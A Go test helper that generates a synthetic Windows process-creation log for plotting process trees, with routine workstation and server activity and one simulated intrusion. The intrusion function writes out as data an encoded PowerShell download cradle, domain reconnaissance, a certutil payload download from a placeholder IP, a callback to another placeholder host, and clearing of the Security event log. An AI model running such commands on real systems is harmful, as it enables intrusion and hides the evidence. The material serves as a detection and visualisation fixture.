package plotting_test

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"sync"
	"time"

	"github.com/gophertrees/gopherwood/dataframe"
	"github.com/gophertrees/gopherwood/ptree"
)

// made is a log that is made up: workstations and servers over two days, with what such machines
// do all day, and one intrusion.
type made struct {
	random                                                      *rand.Rand
	host                                                        string
	pid                                                         int64
	times                                                       []time.Time
	hosts, users, sids, ids, names, parents, parentIDs, command []string
	effort                                                      []float64
}

type started struct {
	id, name, user string
	at             time.Time
}

// start logs a process and returns it, for its children to name.
func (m *made) start(parent started, after time.Duration, name, command, user string) started {
	m.pid += 4 * (1 + m.random.Int64N(9))
	if user == "" {
		user = parent.user
	}
	p := started{fmt.Sprintf("0x%x", m.pid), `C:\Windows\System32\` + name, user, parent.at.Add(after)}
	m.times, m.hosts, m.users = append(m.times, p.at), append(m.hosts, m.host), append(m.users, user)
	m.sids = append(m.sids, "S-1-5-21-"+fmt.Sprint(len(user)))
	m.ids, m.names, m.command = append(m.ids, p.id), append(m.names, p.name), append(m.command, command)
	m.parents, m.parentIDs = append(m.parents, parent.name), append(m.parentIDs, parent.id)
	m.effort = append(m.effort, float64(m.random.IntN(2000)-600)/10)
	return p
}

func (m *made) seconds(most int) time.Duration {
	return time.Duration(m.random.IntN(1000*most)) * time.Millisecond
}

// boot logs what a machine of a number of processes does.
func (m *made) boot(size int) {
	begin := time.Date(2026, 3, 1, 6, 0, 0, 0, time.UTC).Add(m.seconds(3000))
	before := started{"0x4", `C:\Windows\System32\smss.exe`, "SYSTEM", begin}
	from := len(m.ids)
	services := m.start(m.start(before, m.seconds(3), "wininit.exe", "wininit.exe", ""), m.seconds(3), "services.exe", `C:\Windows\system32\services.exe`, "")
	shell := m.start(m.start(before, m.seconds(90), "userinit.exe", "userinit.exe", "ann"), m.seconds(5), "explorer.exe", `C:\Windows\explorer.exe`, "")
	agent := m.start(services, m.seconds(20), "MonitoringHost.exe", `"C:\Program Files\Agent\MonitoringHost.exe" -Embedding`, "")
	for _, group := range []string{"DcomLaunch", "netsvcs", "LocalService", "NetworkService", "wsappx"} {
		m.service(services, group)
	}
	m.intrusion(shell)
	for hour := 0; len(m.ids)-from < size; hour = (hour + 1) % 40 {
		m.check(agent, time.Duration(hour)*time.Hour+m.seconds(3600))
		if hour%5 == 1 {
			m.office(shell, time.Duration(hour)*time.Hour+m.seconds(3600))
		}
	}
	m.loop(services, min(size/20, 400))
}

func (m *made) service(services started, group string) {
	host := m.start(services, m.seconds(30), "svchost.exe", "svchost.exe -k "+group, []string{"SYSTEM", "LOCAL SERVICE"}[m.random.IntN(2)])
	for range 1 + m.random.IntN(5) {
		m.start(host, m.seconds(80_000), []string{"taskhostw.exe", "WmiPrvSE.exe", "dllhost.exe", "wermgr.exe"}[m.random.IntN(4)], "-Embedding", "")
	}
}

// check is the monitoring agent's script, again and again.
func (m *made) check(agent started, after time.Duration) {
	script := m.start(agent, after, "cscript.exe", fmt.Sprintf(`"cscript.exe" /nologo "MonitorKnowledgeDiscovery.vbs" %d`, m.random.IntN(90_000)), "")
	m.start(script, m.seconds(1), "conhost.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, "")
}

func (m *made) office(shell started, after time.Duration) {
	name := []string{"outlook.exe", "winword.exe", "msedge.exe", "teams.exe"}[m.random.IntN(4)]
	app := m.start(shell, after, name, fmt.Sprintf(`"C:\Program Files\%s" /n "C:\Users\ann\Documents\%s %d.docx"`, name, []string{"Angebot", "請求書", "отчёт", "تقرير"}[m.random.IntN(4)], m.random.IntN(50)), "")
	if m.random.IntN(3) == 0 {
		m.start(app, m.seconds(60), "splwow64.exe", "C:\\Windows\\splwow64.exe 12288", "")
	}
}

func (m *made) intrusion(shell started) {
	word := m.start(shell, 9*time.Hour, "winword.exe", `"winword.exe" /n "C:\Users\ann\Downloads\invoice.docm"`, "")
	cmd := m.start(word, m.seconds(9), "cmd.exe", `cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, "")
	m.start(cmd, 80*time.Millisecond, "conhost.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, "")
	power := m.start(cmd, m.seconds(2), "powershell.exe", `powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, "")
	for _, c := range []string{"whoami.exe /all", "net.exe group \"Domain Admins\" /domain", "nltest.exe /dclist:corp", "certutil.exe -urlcache -split -f http://198.51.100.7/a.dat C:\\ProgramData\\svhost.exe"} {
		name, _, _ := cut(c)
		m.start(power, m.seconds(400), name, c, "")
	}
	m.start(m.start(power, 20*time.Minute, "svhost.exe", `C:\ProgramData\svhost.exe -k 443 203.0.113.77`, "SYSTEM"), time.Minute, "wevtutil.exe", "wevtutil cl Security", "")
}

func cut(command string) (name, rest string, ok bool) {
	for i, c := range command {
		if c == ' ' {
			return command[:i], command[i+1:], true
		}
	}
	return command, "", false
}

// loop is a script that starts itself.
func (m *made) loop(parent started, turns int) {
	for range turns {
		parent = m.start(parent, m.seconds(60), "cmd.exe", fmt.Sprintf(`cmd.exe /c "C:\diagnostics\again.cmd" -%d`, m.random.IntN(30_000)), "")
		if m.random.IntN(6) == 0 {
			m.start(parent, m.seconds(4), "PING.EXE", "ping 127.0.0.1 -n 2", "")
		}
		parent = m.start(parent, m.seconds(60), "powershell.exe", fmt.Sprintf(`powershell "C:\diagnostics\again.cmd" -%d`, m.random.IntN(30_000)), "")
	}
}

var gallerySizes = []int{1, 30, 300, 3000, 22_992}

var galleryTrees = sync.OnceValue(func() map[int]ptree.Tree {
	out := map[int]ptree.Tree{}
	for _, size := range gallerySizes {
		out[size] = galleryTree(size)
	}
	return out
})

// galleryTree is the tree of a log of a number of processes, on a machine for every thousand of
// them and one more.
func galleryTree(size int) ptree.Tree {
	m := &made{random: rand.New(rand.NewPCG(6, uint64(size)))}
	machines := 1 + size/1000
	for i := range machines {
		m.host, m.pid = fmt.Sprintf("%s%02d", []string{"WS-BERLIN-", "WS-KYOTO-", "SRV-"}[i%3], i+1), 400
		m.boot(size/machines + i%3*size/(4*machines))
	}
	n := len(m.ids)
	tree, err := ptree.BuildProcessTree(dataframe.New(
		dataframe.Ints("EventID", slices.Repeat([]int64{4688}, n)), dataframe.Times("TimeGenerated", m.times),
		dataframe.Strings("Computer", m.hosts), dataframe.Strings("SubjectUserSid", m.sids), dataframe.Strings("SubjectUserName", m.users),
		dataframe.Strings("SubjectLogonId", slices.Repeat([]string{"0x3e7"}, n)), dataframe.Strings("TargetLogonId", slices.Repeat([]string{"0x0"}, n)),
		dataframe.Strings("NewProcessId", m.ids), dataframe.Strings("NewProcessName", m.names), dataframe.Strings("ProcessId", m.parentIDs),
		dataframe.Strings("ParentProcessName", m.parents), dataframe.Strings("CommandLine", m.command), dataframe.Floats("Effort", m.effort)))
	if err != nil {
		panic(err)
	}
	if size == 1 {
		return tree.Tail(1)
	}
	return tree.Head(size)
}
